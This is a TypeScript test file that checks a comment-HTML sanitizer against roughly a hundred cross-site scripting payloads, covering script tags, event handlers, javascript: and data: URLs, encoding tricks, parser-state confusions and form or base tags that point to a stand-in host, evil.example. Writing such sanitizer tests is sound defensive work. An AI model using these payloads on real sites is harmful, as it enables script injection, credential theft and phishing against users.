import { Parser } from 'htmlparser2';
import { ALLOWED_ATTRIBUTES, purify } from '../domain/comment-markup.js';
import { renderBody } from './render-body.js';

/** Ways to get a script, a frame, a style or a foreign form into a page, by kind of trick. */
const ATTACKS: readonly string[] = [
  // Plain and disguised elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\t>',
  '<script/x>alert(1)</script>',
  '<script src="data:text/javascript,alert(1)">',
  '<<script>alert(1)//<</script>',
  '<\u0000script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<b onmouseover=alert(1)>x</b>',
  '<b/onclick="alert(1)">x</b>',
  '<b title="x" onfocus="alert(1)" autofocus>x</b>',
  '<a href="http://e.example/" onclick="alert(1)">x</a>',
  `<a href='http://e.example/' title='" onmouseover="alert(1)'>x</a>`,
  '<a href="http://e.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
  '<q cite="x" onpointerenter=alert(1)>x</q>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0;:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:http://e.example/x">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example\\">x</a>',
  '<a href=" http://e.example/" target=_top rel=opener>x</a>',
  '<a href="http://e.example/" style="position:fixed;inset:0">x</a>',
  '<a name="respond" id="commentform" class="submit">x</a>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<del datetime="javascript:alert(1)">x</del>',
  'javascript:alert(1) http://e.example/"onmouseover="alert(1)',
  "http://e.example/'onmouseover='alert(1)",
  'http://e.example/<script>alert(1)</script>',
  'http://e.example/?a=<img src=x onerror=alert(1)>',
  'www.e.example/"><svg onload=alert(1)>',
  'a@e.example"><script>alert(1)</script>',
  // Frames, styles, forms, metadata
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="//evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
  '</form><form action="//evil.example/"><input type=submit name=submit>',
  '</li></ol></section><h1>Official notice</h1>',
  // Parser states: comments, raw text, unfinished markup
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script>',
  '<b title="<b title="><img src=x onerror=alert(1)>">x</b>',
  '<a href="http://e.example/<!--" title="--><img src=x onerror=alert(1)>">x</a>',
  '<a title="http://e.example/" href="http://e.example/"><script>alert(1)</script></a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<b <script>alert(1)</script>0',
  '"><img src=x onerror=alert(1)>',
  "';alert(1);//",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} <%= alert(1) %> <%~ alert(1) %>',
];

const OUTPUT: Record<string, readonly string[]> = {
  ...ALLOWED_ATTRIBUTES,
  a: ['href', 'title', 'rel'],
  p: ['dir'],
  br: [],
  bdi: [],
};

/** Everything in an HTML text that a comment may not hold. */
function forbidden(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attribs) {
      if (!Object.hasOwn(OUTPUT, name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attribs)) {
        if (!OUTPUT[name]?.includes(attribute)) found.push(`${name}[${attribute}]`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href=${value}`);
        if (attribute === 'cite' && !/^https?:\/\//i.test(value)) found.push(`cite=${value}`);
      }
      if (name === 'a' && attribs['rel'] !== 'nofollow ugc noopener') found.push('a without rel');
    },
    oncomment: (text) => found.push(`<!--${text}-->`),
    onprocessinginstruction: (_name, text) => found.push(`<${text}>`),
  });
  parser.write(html);
  parser.end();
  return found;
}

describe('attacks in a comment', () => {
  it.each(ATTACKS)('%j leaves only what a comment may hold', (attack) => {
    for (const text of [
      attack,
      `x ${attack} y`,
      `<b>${attack}</b>`,
      `<a href="http://a.example/">${attack}</a>`,
    ]) {
      expect(forbidden(renderBody(purify(text)))).toEqual([]);
      expect(forbidden(renderBody(text))).toEqual([]);
    }
  });

  it('are many enough, and the judge sees them', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(90);
    expect(ATTACKS.filter((attack) => forbidden(attack).length > 0).length).toBeGreaterThanOrEqual(60);
  });
});
